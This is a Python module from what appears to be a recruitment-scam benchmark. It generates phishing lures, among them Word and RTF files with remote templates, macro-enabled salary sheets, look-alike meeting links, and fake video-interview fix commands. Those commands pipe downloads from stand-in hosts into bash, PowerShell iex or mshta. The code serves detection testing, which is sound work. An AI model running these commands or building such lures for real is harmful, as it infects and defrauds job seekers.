"""What a message asks its reader to open when nothing is attached but words, papers or links."""

from __future__ import annotations

from dataclasses import dataclass

from benchmarks.recruitbench.lures import domains
from benchmarks.recruitbench.lures.containers import office, pages
from benchmarks.recruitbench.lures.scene import Scene, slug

PDF = "application/pdf"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
SHEET = "application/vnd.ms-excel.sheet.macroEnabled.12"


@dataclass(frozen=True, slots=True)
class File:
    """An attachment as it is named and declared."""

    name: str
    kind: str
    data: bytes


@dataclass(frozen=True, slots=True)
class Delivery:
    """`container` names the kind for the table; `link` is what the text's `<<...>>` leads to."""

    container: str
    files: tuple[File, ...] = ()
    link: str = ""


def paper(scene: Scene) -> list[str]:
    """Lines of a description of the post."""
    slots = scene.slots
    return [
        f"{slots['employer']} - {slots['role']}",
        slots["city"],
        *slots["description"].split("\n"),
        slots["ref"],
    ]


def file_name(scene: Scene, extension: str) -> str:
    """A name for the paper, with the employer where that is plain ASCII; also the slot `file`."""
    stem = scene.employer.stem.title() if scene.rng.random() < 0.5 else scene.slots["ref"]
    name = f"{scene.pick('files')}_{stem}{extension}"
    scene.slots["file"] = name
    return name


def benign_pdf(scene: Scene) -> File:
    """A description of the post and nothing else."""
    return File(file_name(scene, ".pdf"), PDF, pages.pdf_document(paper(scene)))


def remote_template(scene: Scene) -> Delivery:
    """A Word document that fetches its template."""
    rng = scene.rng
    host = domains.host(rng, ("docs", "cdn", "office-sync"), ("template-store", "msoffice-cdn"))
    url = f"https://{host}/{rng.choice(('normal', 'offer', 'style'))}{rng.randrange(99)}.dotm"
    data = office.word_document(
        scene.slots["role"], "\n".join(paper(scene)), scene.name, template=url
    )
    return Delivery("docx", (File(file_name(scene, ".docx"), WORD, data),))


def remote_picture_template(scene: Scene) -> Delivery:
    """The same, with a template that calls itself a picture."""
    host = domains.host(scene.rng, ("img", "static", "media"), ("brand-assets", "corp-style"))
    url = f"http://{host}/{scene.rng.choice(('header.png', 'logo.jpg', 'page.gif'))}"
    data = office.word_document(
        scene.slots["role"], "\n".join(paper(scene)), scene.name, template=url
    )
    return Delivery("docx", (File(file_name(scene, ".docx"), WORD, data),))


def linked_frame(scene: Scene) -> Delivery:
    """A Word form with an object that lies elsewhere."""
    portal = scene.slots.get("portal", f"forms.{domains.reserved(scene.rng)}")
    url = f"https://{portal}/forms/{scene.rng.randrange(1000, 9999)}.html!x-usc:start"
    data = office.word_document(scene.slots["role"], "\n".join(paper(scene)), scene.name, frame=url)
    return Delivery("docx", (File(file_name(scene, ".docx"), WORD, data),))


def rich_text_form(scene: Scene) -> Delivery:
    """A questionnaire in RTF with a remote template."""
    url = f"http://form-style{scene.rng.randrange(50)}.{domains.reserved(scene.rng)}/q/{scene.rng.randrange(10**5)}"
    name = file_name(scene, scene.rng.choice((".rtf", ".doc")))
    return Delivery("rtf", (File(name, "application/msword", pages.rich_text(paper(scene), url)),))


def salary_sheet(scene: Scene) -> Delivery:
    """A table of salaries that wants macros."""
    rows = [
        [str(step), f"{70 + step * 9}.000", f"{8 + step} %"]
        for step in range(1, scene.rng.randrange(6, 11))
    ]
    stem = scene.rng.choice(("Salary_Grid", "Comp_Table", "Benefits_2025"))
    name = f"{stem}_{scene.slots['ref']}.xlsm"
    scene.slots["file"] = name
    return Delivery(
        "xlsm",
        (File(name, SHEET, office.workbook(scene.slots["role"], rows, scene.name, macros=True)),),
    )


def pdf_alone(scene: Scene) -> Delivery:
    """An honest paper; the sender is what is wrong."""
    return Delivery("pdf", (benign_pdf(scene),))


def pdf_or_nothing(scene: Scene) -> Delivery:
    """Now and then a paper."""
    if scene.rng.random() < 0.5:
        return pdf_alone(scene)
    scene.slots["file"] = ""
    return Delivery("none")


def pdf_with_link(scene: Scene) -> Delivery:
    """A PDF that shows a blurred notice and leads to an archive."""
    host = domains.host(scene.rng, ("secure", "view", "dl"), ("doc-transfer", "paper-room"))
    url = f"https://{host}/{scene.slots['ref']}.zip"
    lines = ["This document is protected.", "Download the full version to read it:", url]
    return Delivery("pdf", (File(file_name(scene, ".pdf"), PDF, pages.pdf_document(lines, url)),))


def portal(scene: Scene) -> Delivery:
    """A page on the sender's own domain."""
    host = scene.slots.get("portal") or domains.combined(scene.employer.stem, scene.rng)
    where = scene.rng.choice(("candidate/login", "apply", "careers/profile", "signin", "invite"))
    return Delivery(
        "link",
        (),
        f"https://{host}/{where}?{scene.rng.choice(('id', 'token', 'req'))}={token(scene, 18)}",
    )


def portal_with_paper(scene: Scene) -> Delivery:
    """The page and an honest paper beside it."""
    return Delivery("link", (benign_pdf(scene),), portal(scene).link)


def file_host(scene: Scene) -> Delivery:
    """An archive at a well-known place to drop files; the path is made up."""
    rng, name = scene.rng, file_name(scene, scene.rng.choice((".zip", ".rar", ".7z")))
    key = token(scene, 33)
    url = rng.choice(
        (
            f"https://drive.google.com/file/d/1{key}/view?usp=sharing",
            f"https://www.dropbox.com/scl/fi/{key}/offer.zip?rlkey={token(scene, 20)}&dl=1",
            f"https://1drv.ms/u/s!A{key}",
            f"https://we.tl/t-{key}",
            f"https://mega.nz/file/{key[:8]}#{key}",
        )
    )
    scene.slots["file"] = name
    return Delivery("link", (), url)


def shortened(scene: Scene) -> Delivery:
    """A shortener; the path is made up."""
    rng = scene.rng
    host = rng.choice(("bit.ly", "tinyurl.com", "cutt.ly", "t.ly"))
    house = slug(scene.slots.get("agency", "post")).replace(".", "-")
    return Delivery(
        "link",
        (),
        f"https://{host}/{house}-role-{rng.randrange(10**6, 10**7)}",
    )


def repository(scene: Scene) -> Delivery:
    """A coding test at a code host; owner and name are made up."""
    rng = scene.rng
    owner = rng.choice(("corvane", "ostrelle", "quintavo"))
    owner += f"-assessments-{rng.randrange(10**4, 10**5)}"
    project = rng.choice(("telemetry-viewer", "sensor-dashboard", "fleet-console", "grid-monitor"))
    scene.slots.update(project=project, role=scene.pick("software"))
    return Delivery(
        "link",
        (),
        f"https://{rng.choice(('github.com', 'bitbucket.org', 'gitlab.com'))}/{owner}/{project}",
    )


def whatsapp(scene: Scene) -> Delivery:
    """Nothing but a number (Ofcom's range for drama)."""
    number = f"+44 7700 900{scene.rng.randrange(1000):03}"
    scene.slots["chat"] = number
    return Delivery("none", (), f"https://wa.me/{number[1:].replace(' ', '')}")


def telegram(scene: Scene) -> Delivery:
    """A name at a messenger, made up."""
    scene.slots["chat"] = (
        f"@{slug(scene.latin).replace('.', '_')}_{scene.rng.randrange(10**4, 10**5)}"
    )
    return Delivery("none", (), f"https://t.me/{scene.slots['chat'][1:]}")


def calendar_entry(scene: Scene) -> Delivery:
    """An invitation whose meeting link lies on a look-alike of a meeting service."""
    rng = scene.rng
    host = f"{rng.choice(('teams-meet', 'zoom-interview', 'webex-join'))}.{domains.reserved(rng)}"
    url = f"https://{host}/j/{rng.randrange(10**9, 10**10)}?client=update"
    day = f"{scene.when.year}{scene.when.month:02}28"
    data = pages.invitation(
        f"Interview - {scene.slots['role']}",
        f"{scene.slots['employer']}\n{url}",
        url,
        f"{slug(scene.latin)}@{scene.slots.get('portal', 'calendar.example')}",
        scene.to_address,
        f"{day}T{int(scene.slots['hour']):02}0000Z",
        f"{day}T{int(scene.slots['hour']):02}4500Z",
        token(scene, 40),
    )
    return Delivery("ics", (File("invite.ics", "text/calendar; method=REQUEST", data),), url)


def pasted_command(scene: Scene) -> Delivery:
    """A page of a video interview that asks for a command; both lie under reserved names."""
    rng = scene.rng
    host = domains.host(rng, ("interview", "assess", "meet"), ("hirevid", "talentcam", "skillroom"))
    scene.slots["command"] = rng.choice(
        (
            f"curl -k -o setup.sh https://{host}/drv/cam && bash setup.sh",
            f'powershell -w hidden -c "iwr https://{host}/drv/cam.ps1 | iex"',
            f"mshta https://{host}/fix/mic",
        )
    )
    return Delivery("link", (), f"https://{host}/s/{token(scene, 14)}")


def token(scene: Scene, length: int) -> str:
    """Letters and digits that no eye confuses."""
    letters = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
    return "".join(scene.rng.choice(letters) for _ in range(length))
